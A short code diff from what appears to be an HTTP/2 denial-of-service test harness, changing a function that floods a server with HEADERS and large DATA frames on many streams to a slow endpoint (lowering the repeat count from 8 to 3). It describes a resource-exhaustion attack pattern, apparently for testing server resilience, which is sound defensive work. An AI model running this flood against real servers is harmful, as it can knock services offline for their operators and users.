@@ -167,7 +167,7 @@ def http2_unread_bodies(attacker: Attacker) -> Iterator[None]:
         pieces = b"".join(
             http2_frame(HEADERS, END_HEADERS, 2 * n + 1, block(b"/slow", b"\x83")) for n in range(STREAMS)
         )
-        pieces += b"".join(http2_frame(DATA, 0, 2 * n + 1, bytes(16384)) for _ in range(8) for n in range(STREAMS))
+        pieces += b"".join(http2_frame(DATA, 0, 2 * n + 1, bytes(16384)) for _ in range(3) for n in range(STREAMS))
         blast([sock], pieces, len(pieces))
     yield
 
